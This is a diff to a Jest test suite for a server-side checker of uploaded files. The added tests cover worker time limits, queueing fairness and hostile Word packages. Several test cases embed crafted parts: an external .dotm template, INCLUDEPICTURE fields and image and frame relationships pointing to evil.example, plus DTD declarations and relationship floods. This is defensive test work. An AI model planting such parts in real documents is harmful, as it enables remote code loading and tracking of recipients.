@@ -3,10 +3,13 @@
  * the server's own thread keeps turning.
  */
 import { checkFileContent, closeFileChecks, FILE_CONTENT_MESSAGES } from '../fileContent';
-import { animatedGif, complexField, handMadePdf, manyObjectsPdf, objectStreamBomb, onePage, WORD_PARTS, wordPackage, wordPart, zipBomb } from '@/test/hostileFiles.mjs';
+import { animatedGif, complexField, handMadePdf, manyObjectsPdf, manyRelationships, objectStreamBomb, onePage, relationshipsPart, WORD_PARTS, wordPackage, wordPart, zipBomb } from '@/test/hostileFiles.mjs';
 import { image, pdf } from '@/test/samples';
 
 afterAll(closeFileChecks);
+
+// Each verdict is the file's, whatever the machine's load: a busy machine only makes it later.
+jest.setTimeout(60_000);
 
 const refusedAs = (reason: keyof typeof FILE_CONTENT_MESSAGES) => ({ ok: false, message: FILE_CONTENT_MESSAGES[reason] });
 const MB = 1024 * 1024;
@@ -49,10 +52,21 @@ describe('decompression is bounded, whatever sizes the file declares', () => {
 });
 
 describe('a check that runs out of time ends its worker, and the file is refused', () => {
-  test('a real photo refused at a limit of 1 ms, then accepted at the usual limit by a fresh worker', async () => {
-    const photo = await image('jpeg');
-    expect(await checkFileContent('jpeg', photo, { timeLimitMs: 1 })).toEqual(refusedAs('tooComplex'));
-    expect(await checkFileContent('jpeg', photo)).toMatchObject({ ok: true });
+  test('a file still being read at its limit is refused; a real photo is then accepted by a fresh worker', async () => {
+    // 400,000 relationships take a worker well over a second of reading, at any load.
+    expect(await checkFileContent('docx', manyRelationships(400_000), { timeLimitMs: 100 })).toEqual(refusedAs('tooComplex'));
+    expect(await checkFileContent('jpeg', await image('jpeg'))).toMatchObject({ ok: true });
+  });
+
+  test("time spent waiting for a worker does not count against a file's own limit", async () => {
+    const slow = manyRelationships(400_000);
+    // Every worker busy with another client's long file, then a photo with a limit shorter than that wait.
+    const flood = [1, 2, 3].map(() => checkFileContent('docx', slow, { client: 'flooder' }));
+    const started = performance.now();
+    const photo = await checkFileContent('jpeg', await image('jpeg'), { client: 'applicant', timeLimitMs: 300 });
+    expect(performance.now() - started).toBeGreaterThan(300);
+    expect(photo).toMatchObject({ ok: true });
+    await Promise.all(flood);
   });
 });
 
@@ -132,8 +146,27 @@ describe('Word fields that run or fetch, and imported parts, are refused whereve
         'word/chunk.mht': 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/x.png">',
       },
     ],
+    [
+      'an outside template behind a ">" inside an attribute value',
+      {
+        'word/_rels/settings.xml.rels': relationshipsPart(
+          '<Relationship Id="rId1" Note="a>b" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
+        ),
+      },
+    ],
+    ['an INCLUDEPICTURE field behind a ">" inside an attribute value', document(`<w:p><w:r w:rsidR="a>b"><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)],
+    ['an outside image under another prefix', { 'word/_rels/document.xml.rels': relationshipsPart('<p:Relationship xmlns:p="urn:other" Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/x.png" TargetMode="External"/>') }],
+    ['a frame to another address', { 'word/_rels/webSettings.xml.rels': relationshipsPart('<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="http://evil.example/"/>') }],
+    ['a part that declares a DTD', { 'word/document.xml': `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY e "x">]>${WORD_PARTS['word/document.xml']!.replace('<?xml version="1.0"?>', '')}` }],
+    ['a part that is not well-formed', { 'word/document.xml': '<?xml version="1.0"?><w:document><w:body></w:document>' }],
   ])('%s is refused', async (_case, parts) => {
     expect(await checkFileContent('docx', wordPackage(parts))).toEqual(refusedAs('word'));
+  });
+
+  test('60,000 relationships are read in one linear pass, and the file passes', async () => {
+    const file = manyRelationships(60_000);
+    expect(file.length).toBeLessThan(64 * 1024);
+    expect(await checkFileContent('docx', file)).toMatchObject({ ok: true });
   });
 
   test('a CV with a hyperlink field, a page number and a table of contents passes', async () => {
